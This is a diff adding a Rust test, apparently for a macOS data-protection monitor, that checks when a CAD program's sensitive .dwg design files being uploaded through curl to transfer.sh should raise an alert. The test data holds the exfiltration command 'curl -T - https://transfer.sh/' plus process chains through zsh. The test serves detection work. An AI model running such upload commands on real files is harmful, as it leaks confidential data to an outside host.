@@ -150,6 +150,58 @@ fn apps_open_the_login_keychain() {
         .alert();
 }
 
+/// What an entry keeps with a program is not carried by what it starts, whoever that starts in turn. What the program sends itself,
+/// what it becomes and what others read counts as ever.
+#[test]
+fn what_a_program_keeps_stays_with_it() {
+    const CAD: Program = vendor("/Applications/CAD.app/Contents/MacOS/CAD", "com.example.cad", "ABCDE12345");
+    const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
+    const UPLOAD: [&str; 4] = ["curl", "-T", "-", "https://transfer.sh/"];
+    let policy = "[[sensitive]]\nname = \"designs\"\nseverity = \"high\"\npaths = [\"~/**/*.dwg\"]\n\
+        [[allow]]\nname = \"CAD shows\"\neffect = \"keep\"\nsensitive = [\"designs\"]\nusers = \"*\"\nreason = \"x\"\n\
+        owners = [{ process = { team_id = \"ABCDE12345\", signing_id = \"com.example.cad\" }, paths = [\"~/**/*.dwg\"] }]\n";
+    let story = |program: Program, file: &str, goes_on: &dyn Fn(&mut World, &Proc) -> Proc| {
+        let mut w = World::new();
+        w.policy.push_str(policy);
+        let cad = w.launch(0.0, program, &["CAD"]);
+        w.open(1.0, &cad, file);
+        let sender = goes_on(&mut w, &cad);
+        w.upload(3.0, &sender, "transfer.sh", 90_000);
+        w.tell()
+    };
+    let child = |w: &mut World, cad: &Proc| w.spawn(2.0, cad, CURL, &UPLOAD);
+    let grandchild = |w: &mut World, cad: &Proc| {
+        let shell = w.spawn(2.0, cad, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
+        w.spawn(2.1, &shell, CURL, &UPLOAD)
+    };
+    let design = "/Users/alice/work/engine.dwg";
+    story(CAD, design, &child).none();
+    story(CAD, design, &grandchild).none();
+    story(CAD, design, &|_, cad| *cad).alert();
+    story(CAD, design, &|w, cad| w.exec(2.0, cad, CURL, &UPLOAD)).alert();
+    let became_shell = |w: &mut World, cad: &Proc| {
+        let shell = w.exec(2.0, cad, apple("/bin/zsh", "com.apple.zsh"), &["zsh"]);
+        w.spawn(2.1, &shell, CURL, &UPLOAD)
+    };
+    story(CAD, design, &became_shell).alert();
+    let reads_again = |w: &mut World, cad: &Proc| {
+        let curl = w.spawn(2.0, cad, CURL, &UPLOAD);
+        w.open(2.1, &curl, design);
+        curl
+    };
+    story(CAD, design, &reads_again).alert();
+    // One of its sets is not the entry's; another program; other code in it.
+    story(CAD, "/Users/alice/Documents/engine.dwg", &child).alert();
+    story(adhoc("/Applications/CAD.app/Contents/MacOS/CAD", "com.example.cad"), design, &child).alert();
+    let mut w = World::new();
+    w.policy.push_str(policy);
+    let cad = w.launch(0.0, CAD, &["CAD", "--inspect=9229"]);
+    w.open(1.0, &cad, design);
+    let curl = child(&mut w, &cad);
+    w.upload(3.0, &curl, "transfer.sh", 90_000);
+    w.tell().alert();
+}
+
 /// Security agents look at everything and send samples to stores of their makers'. What the company itself calls sensitive is another
 /// matter, and whoever only calls himself so.
 #[test]
